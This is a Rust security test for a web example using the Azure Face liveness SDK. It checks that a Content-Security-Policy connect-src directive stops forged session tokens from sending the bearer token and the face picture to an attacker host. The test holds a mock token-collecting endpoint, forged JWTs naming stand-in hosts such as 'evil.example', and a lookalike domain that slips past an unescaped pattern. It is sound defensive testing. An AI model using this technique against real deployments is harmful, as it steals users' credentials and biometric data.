//! The session token: whoever makes it chooses the host that the SDK sends it to as a bearer, and
//! `connect-src` is what keeps it here.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::header::{ACCESS_CONTROL_REQUEST_HEADERS, AUTHORIZATION, CONTENT_TYPE, ORIGIN};
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use crate::attacks::until;
use crate::chromium::Chromium;
use crate::example::Example;
use crate::page::Page;
use crate::serve;
use crate::tls::Tls;

/// A Face endpoint of the attacker's: it lets every page ask, and notes what is asked.
#[derive(Clone, Default)]
pub(crate) struct Thief {
    asked: Arc<Mutex<Vec<Asked>>>,
}

#[derive(Clone, Debug)]
pub(crate) struct Asked {
    path: String,
    /// What it came for.
    authorization: Option<String>,
}

impl Thief {
    pub(crate) fn router(&self) -> Router {
        Router::new().fallback(answer).with_state(self.clone())
    }

    fn has_a_token(&self) -> bool {
        let asked = self.asked.lock().unwrap();
        asked.iter().any(|asked| asked.authorization.is_some())
    }

    /// What was asked since the last look.
    pub(crate) fn take(&self) -> Vec<Asked> {
        std::mem::take(&mut self.asked.lock().unwrap())
    }
}

// The body is read and dropped: a browser sends again what nobody read.
async fn answer(State(thief): State<Thief>, uri: Uri, request: HeaderMap, _: Bytes) -> Response {
    let text = |name| Some(request.get(name)?.to_str().unwrap().to_owned());
    thief.asked.lock().unwrap().push(Asked {
        path: uri.path().to_owned(),
        authorization: text(AUTHORIZATION),
    });
    let mut headers = HeaderMap::new();
    let allowed = text(ACCESS_CONTROL_REQUEST_HEADERS).unwrap_or_default();
    for (name, value) in [
        (
            "access-control-allow-origin",
            text(ORIGIN).unwrap_or_default(),
        ),
        ("access-control-allow-headers", allowed),
        (CONTENT_TYPE.as_str(), "application/json".to_owned()),
    ] {
        headers.insert(name, value.parse().unwrap());
    }
    (StatusCode::OK, headers, "{\"resultId\":\"stolen\"}").into_response()
}

/// A session token of the right shape that names this endpoint.
pub(crate) fn token_for(endpoint: &str) -> String {
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    let path = |path| json!({"path": format!("face/v1.2/{path}")});
    let paths = [
        "session/start",
        "detectLiveness/singleModal",
        "session/attempt/end",
    ]
    .map(path);
    let header = part(&json!({"alg": "ES256", "typ": "JWT"}));
    let claims = part(&json!({
        "face": json!({"endpoint": endpoint}).to_string(),
        "allowed-paths": json!(paths).to_string(),
    }));
    format!("{header}.{claims}.forged")
}

/// Starts a check with a token, as a page does that takes its token from the wrong place; gives
/// what the SDK says.
async fn start(page: &Page, origin: &str, token: &str) -> String {
    page.goto(&format!("{origin}/")).await;
    page.wait_for("document.documentElement.dataset.state === 'ready'")
        .await;
    let js = format!(
        "(async () => {{
            await import('./FaceLivenessDetector.js');
            const detector = document.createElement('azure-ai-vision-face-ui');
            document.querySelector('#detector').replaceChildren(detector);
            return detector.start('{token}').then(() => 'done', error => error.livenessError);
        }})()"
    );
    page.eval(&js).await.unwrap()
}

/// How a token gets to a foreign host.
struct Leak {
    endpoint: String,
    /// Run before the page's own scripts.
    before: &'static str,
    /// What the SDK says without and with the policy.
    says: [&'static str; 2],
    /// What is sent with the token.
    paths: &'static [&'static str],
}

#[tokio::test]
async fn a_token_that_names_a_foreign_host_goes_there_without_the_policy_and_nowhere_with_it() {
    let tls = Tls::new();
    let thief = Thief::default();
    // Dots that the engine's pattern doesn't escape let this name pass for a resource of Azure.
    let lookalike = "evilcognitiveservices-azure.com";
    let flags = tls.flags(&[(lookalike, tls.serve(thief.router()).await)]);
    let Some(browser) = Chromium::launch(&flags.each_ref().map(String::as_str)).await else {
        return;
    };
    let plain = serve(thief.router()).await;
    let leaks = [
        Leak {
            endpoint: format!("https://{lookalike}"),
            before: "",
            says: ["done", "InvalidToken"],
            // The second one is the picture of the face.
            paths: &[
                "/face/v1.2/session/start",
                "/face/v1.2/detectLiveness/singleModal",
                "/face/v1.2/session/attempt/end",
            ],
        },
        // The component's report that the engine failed goes to any host at all.
        Leak {
            endpoint: plain.replace("127.0.0.1", "evil.example"),
            before: "WebAssembly.instantiate = WebAssembly.instantiateStreaming =
                async () => { throw new Error('broken') }",
            says: ["Unexpected", "Unexpected"],
            paths: &["/face/v1.2/session/attempt/end"],
        },
    ];
    let bare = Example::start(&["--insecure-no-headers"]).await;
    let guarded = Example::start(&[]).await;
    let headers = Example::start(&["--checks", "headers"]).await;
    for leak in &leaks {
        let token = token_for(&leak.endpoint);
        let bearer = format!("Bearer {token}");
        let page = browser.page().await;
        page.before_scripts(leak.before).await;
        let says = start(&page, &bare.origin, &token).await;
        assert_eq!(says, leak.says[0], "{:?}", page.console().await);
        // The component's report is on its way when `start` has answered.
        until(|| thief.has_a_token()).await;
        let asked = thief.take();
        let stolen: Vec<_> = asked
            .iter()
            .filter(|asked| asked.authorization.as_deref() == Some(bearer.as_str()))
            .map(|asked| asked.path.as_str())
            .collect();
        assert_eq!(stolen, leak.paths, "{asked:?}");

        for example in [&guarded, &headers] {
            let page = browser.page().await;
            page.before_scripts(leak.before).await;
            let says = start(&page, &example.origin, &token).await;
            assert_eq!(says, leak.says[1], "{:?}", page.console().await);
            page.wait_for("__violations.some(v => v.directive === 'connect-src')")
                .await;
            let refused = page.violations().await;
            assert!(
                refused.iter().any(|v| v["directive"] == "connect-src"
                    && v["blocked"] == format!("{}{}", leak.endpoint, leak.paths[0])),
                "{refused:#?}"
            );
            let asked = thief.take();
            assert!(asked.is_empty(), "{}: {asked:?}", leak.endpoint);
        }
    }
}
